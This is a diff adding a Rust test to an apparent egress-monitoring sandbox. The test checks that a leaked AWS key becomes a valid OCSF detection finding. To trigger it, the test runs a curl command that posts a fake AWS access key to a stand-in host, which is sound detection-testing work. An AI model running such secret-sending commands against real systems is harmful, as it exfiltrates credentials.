@@ -105,6 +105,37 @@ fn an_export_says_what_the_log_does() {
     assert_eq!(lines(since.success()), records[3..]);
 }
 
+/// By the models of a library that others read such events with. It knows findings, and no traffic.
+#[test]
+fn an_exported_finding_is_one_to_a_reader_of_that_schema() {
+    let Some(python) = cache().map(|cache| cache.join("readers/bin/python")).filter(|path| path.exists()) else {
+        return println!("SKIPPED(no py-ocsf-models): run scripts/install-test-needs");
+    };
+    let stage = Stage::ordinary();
+    let script = format!("curl -s -o /dev/null -d key=AKIA{} https://up.test/echo/a; :", "QYLPMN5HHHFPZAM2");
+    stage.run(&["--keep", "--name", "found-kqzmb", "--allow", HOST], &["sh", "-c", &script]).success();
+    let exported = stage.env.run(&["audit", "export", "found-kqzmb", "--format", "ocsf"]).success().to_owned();
+    let finding = exported.lines().find(|line| line.contains(r#""class_uid":2004"#)).expect("a finding");
+    let read = |event: &str| {
+        let path = stage.env.write("event.json", event);
+        let reader = "import sys, pydantic\n\
+                      from py_ocsf_models.events.findings.detection_finding import DetectionFinding as Finding\n\
+                      try: event = Finding.model_validate_json(open(sys.argv[1]).read())\n\
+                      except pydantic.ValidationError as error: sys.exit(f'no finding: {error}')\n\
+                      print(event.severity_id.name, event.activity_id.name, event.finding_info.analytic.uid,\n\
+                            event.status_id.name, event.metadata.product.name)";
+        let ran = Command::new(&python).args(["-c", reader]).arg(path).output().expect("python runs");
+        (String::from_utf8_lossy(&ran.stdout).into_owned(), String::from_utf8_lossy(&ran.stderr).into_owned())
+    };
+    let (said, failed) = read(finding);
+    assert_eq!(said, "High Create aws-access-key-id New bot-bottle\n", "{failed}\n{finding}");
+    for (is, other) in [(r#""severity_id":4"#, r#""severity_id":"4x""#), (r#""finding_info":"#, r#""finding":"#)] {
+        let (_, failed) = read(&finding.replacen(is, other, 1));
+        assert!(failed.contains("no finding"), "{other}: {failed}");
+    }
+    stage.env.run(&["cleanup", "--all", "--yes"]).success();
+}
+
 #[test]
 fn pipelocks_own_verifier_takes_our_receipts_and_no_others() {
     let Some(verifier) = cache().map(|cache| cache.join("readers/bin/pipelock-verify")).filter(|path| path.exists())
